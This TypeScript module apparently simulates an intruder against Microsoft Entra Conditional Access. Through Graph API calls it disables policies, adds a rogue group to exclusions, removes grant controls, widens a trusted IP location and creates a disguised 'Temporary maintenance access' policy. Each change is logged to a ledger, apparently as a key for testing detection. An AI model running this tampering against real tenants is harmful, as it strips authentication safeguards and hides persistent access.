import { isJsonObject, type Json, type JsonObject } from '#catalogue';
import { textsOf } from '../model/json-text.js';
import { memberOf } from '../query/filter-match.js';
import { nameOf, type Intruder, type Shown } from './intruder.js';

const POLICIES = '/identity/conditionalAccess/policies';
const LOCATIONS = '/identity/conditionalAccess/namedLocations';

/** Weakens Conditional Access in every way there is, opens a named location, and adds a policy of the intruder's own. */
export async function attackPolicies(intruder: Intruder, each: number, rogueGroup: Shown): Promise<void> {
  const policies = intruder.shuffled(await intruder.list(POLICIES));
  const take = (count: number, fits: (policy: Shown) => boolean): Shown[] => {
    const taken = policies.filter(fits).slice(0, count);
    for (const policy of taken) policies.splice(policies.indexOf(policy), 1);
    return taken;
  };
  const isOn = (policy: Shown): boolean => policy['state'] !== 'disabled';
  for (const policy of take(each, isOn)) await change(intruder, policy, { state: 'disabled' });
  for (const policy of take(each, () => true))
    await change(intruder, policy, excluding(policy, rogueGroup.id));
  for (const policy of take(each, (policy) => isJsonObject(policy['grantControls'] ?? null)))
    await change(intruder, policy, { grantControls: null });
  await openLocation(intruder);
  await createRogue(intruder, rogueGroup);
}

async function change(intruder: Intruder, policy: Shown, set: JsonObject): Promise<void> {
  await intruder.send('PATCH', `${POLICIES}/${policy.id}`, set);
  const attributes = Object.keys(set);
  intruder.ledger.add({
    type: 'conditionalAccessPolicy',
    id: policy.id,
    kind: 'modified',
    name: nameOf(policy),
    attributes,
  });
}

function excluding(policy: Shown, group: string): JsonObject {
  const excluded = textsOf(memberOf(policy, 'conditions/users/excludeGroups'));
  return { conditions: { users: { excludeGroups: [...excluded, group] } } };
}

async function openLocation(intruder: Intruder): Promise<void> {
  const locations = await intruder.list(LOCATIONS);
  const [location] = intruder.shuffled(
    locations.filter((one) => one['@odata.type'] === '#microsoft.graph.ipNamedLocation'),
  );
  if (!location) return;
  const ranges: Json = location['ipRanges'] ?? [];
  const added = { '@odata.type': '#microsoft.graph.iPv4CidrRange', cidrAddress: '100.64.0.0/10' };
  await intruder.send('PATCH', `${LOCATIONS}/${location.id}`, {
    '@odata.type': '#microsoft.graph.ipNamedLocation',
    ipRanges: [...(Array.isArray(ranges) ? (ranges as readonly Json[]) : []), added],
  });
  intruder.ledger.add({
    type: 'namedLocationPolicy',
    id: location.id,
    kind: 'modified',
    name: nameOf(location),
    attributes: ['ipRanges'],
  });
}

async function createRogue(intruder: Intruder, rogueGroup: Shown): Promise<void> {
  const created = await intruder.send('POST', POLICIES, {
    displayName: 'Temporary maintenance access',
    state: 'enabledForReportingButNotEnforced',
    conditions: {
      clientAppTypes: ['all'],
      applications: { includeApplications: ['All'] },
      users: { includeUsers: ['All'], excludeGroups: [rogueGroup.id] },
    },
    grantControls: { operator: 'OR', builtInControls: ['block'] },
  });
  const id = created['id'];
  if (typeof id !== 'string') throw new Error('The created policy has no id.');
  intruder.ledger.add({ type: 'conditionalAccessPolicy', id, kind: 'created', name: nameOf(created) });
}
